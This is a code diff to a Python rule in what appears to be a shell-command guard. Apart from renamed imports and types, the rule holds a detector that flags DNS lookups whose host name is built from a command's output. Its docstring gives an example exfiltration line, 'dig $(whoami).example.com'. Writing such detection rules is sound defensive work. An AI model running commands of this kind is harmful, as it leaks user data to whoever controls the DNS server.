@@ -4,12 +4,12 @@ from __future__ import annotations
 
 import re
 
-from snaphook.providers.guard.facts import Call, Origin, Span
-from snaphook.providers.guard.judgement import Answer
-from snaphook.providers.guard.rules.rule import Rule, Scene
+from snaphook.providers.guard.judgement import GuardAnswer
+from snaphook.providers.guard.rules.rule import Rule, RuleContext
+from snaphook.shell.facts import Call, Span, TextOrigin
 
 
-def objects_to(call: Call, _scene: Scene) -> Span | None:
+def objects_to(call: Call, _scene: RuleContext) -> Span | None:
     """Point at a host name made of what another command prints.
 
     Asks: dig $(whoami).example.com
@@ -19,14 +19,14 @@ def objects_to(call: Call, _scene: Scene) -> Span | None:
     Allows: ping -c1 $HOST
     """
     for arg in call.args:
-        if arg.origin & Origin.SUBSTITUTION and re.search(r"\.[a-z]{2,}\.?$", arg.value):
+        if arg.origin & TextOrigin.SUBSTITUTION and re.search(r"\.[a-z]{2,}\.?$", arg.value):
             return arg.span
     return None
 
 
 RULE = Rule(
     id="leaks.names",
-    answer=Answer.ASK,
+    answer=GuardAnswer.ASK,
     says="asks a DNS server for a name made of what a command prints",
     why="whoever runs that server reads it",
     instead="Look up a name you know.",
